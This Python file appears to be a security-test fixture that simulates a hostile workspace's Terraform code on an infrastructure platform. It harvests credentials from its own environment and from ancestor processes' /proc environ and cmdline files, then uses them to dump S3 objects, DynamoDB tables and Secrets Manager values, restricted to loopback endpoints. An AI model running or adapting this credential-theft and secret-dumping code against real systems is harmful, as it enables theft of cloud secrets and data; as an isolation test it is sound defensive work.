"""What a hostile workspace's Terraform code tries (docs/security.md): run by a configuration's
``local-exec``, it collects everything its process can see, then uses whatever it found
against the platform's S3, DynamoDB and Secrets Manager, and prints all of it (into the run's
log) and writes it to the file named by its argument, for the test to read.

It looks at its own environment, and at ``/proc/<pid>/environ`` and ``cmdline`` of every
ancestor (Terraform, the runner, the platform). A found endpoint is used only if it is on
127.0.0.1: nothing else may be a network target in a test.
"""

import json
import os
import re
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

LOOPBACK_URL = re.compile(r"https?://(?:127\.0\.0\.1|localhost):\d+")
VARIABLE = re.compile(r"\b(AWS_[A-Z_]+|IACP_[A-Z_]+)=([^\x00\n\"\\]*)")


def ancestors() -> list[dict[str, Any]]:
    seen: list[dict[str, Any]] = []
    pid = os.getppid()
    while pid > 1:
        entry: dict[str, Any] = {"pid": pid}
        for name in ("environ", "cmdline"):
            try:
                entry[name] = Path(f"/proc/{pid}/{name}").read_bytes().decode(errors="replace")
            except OSError as error:
                entry[name] = f"<unreadable: {type(error).__name__}>"
        seen.append(entry)
        status = Path(f"/proc/{pid}/status").read_text()
        match = re.search(r"^PPid:\s+(\d+)", status, re.MULTILINE)
        pid = int(match.group(1)) if match else 0
    return seen


def use(found: dict[str, Any]) -> list[str]:
    """Every call the findings allow, and what each returned."""
    text = json.dumps(found)
    variables: dict[str, str] = {}
    for name, value in VARIABLE.findall(text):
        variables.setdefault(name, value)
    endpoints = sorted(set(LOOPBACK_URL.findall(text)))
    results: list[str] = []
    if not endpoints:
        return ["no endpoint on 127.0.0.1 found: no call made"]
    import boto3  # the runner's interpreter has it; an attacker would bring their own

    session = boto3.Session(
        aws_access_key_id=variables.get("AWS_ACCESS_KEY_ID", "found-nothing"),
        aws_secret_access_key=variables.get("AWS_SECRET_ACCESS_KEY", "found-nothing"),
        aws_session_token=variables.get("AWS_SESSION_TOKEN") or None,
        region_name="us-east-1",
    )
    for endpoint in endpoints:
        results += _try(session, endpoint)
    return results


def _try(session: Any, endpoint: str) -> list[str]:
    out: list[str] = []
    calls: list[tuple[str, Callable[[Any], Any]]] = [
        ("s3", _dump_bucket_objects),
        ("dynamodb", _scan_tables),
        ("secretsmanager", _read_secrets),
    ]
    for service, call in calls:
        try:
            client = session.client(service, endpoint_url=endpoint)
            out.append(f"{service} at {endpoint}: {json.dumps(call(client), default=str)}")
        except Exception as error:  # the attack goes on whatever fails
            out.append(f"{service} at {endpoint}: {type(error).__name__}: {error}")
    return out


def _scan_tables(dynamodb: Any) -> list[Any]:
    return [dynamodb.scan(TableName=name) for name in dynamodb.list_tables()["TableNames"]]


def _read_secrets(secrets: Any) -> list[str]:
    listed = secrets.list_secrets()["SecretList"]
    return [secrets.get_secret_value(SecretId=s["ARN"])["SecretString"] for s in listed]


def _dump_bucket_objects(s3: Any) -> list[str]:
    bodies = []
    for bucket in s3.list_buckets()["Buckets"]:
        for item in s3.list_objects_v2(Bucket=bucket["Name"]).get("Contents", []):
            body = s3.get_object(Bucket=bucket["Name"], Key=item["Key"])["Body"].read()
            bodies.append(body.decode(errors="replace"))
    return bodies


def main() -> None:
    found: dict[str, Any] = {"environment": dict(os.environ), "ancestors": ancestors()}
    found["calls"] = use(found)
    Path(sys.argv[1]).write_text(json.dumps(found))
    print(json.dumps(found))  # into the run's log: a leak would show there too


if __name__ == "__main__":
    main()
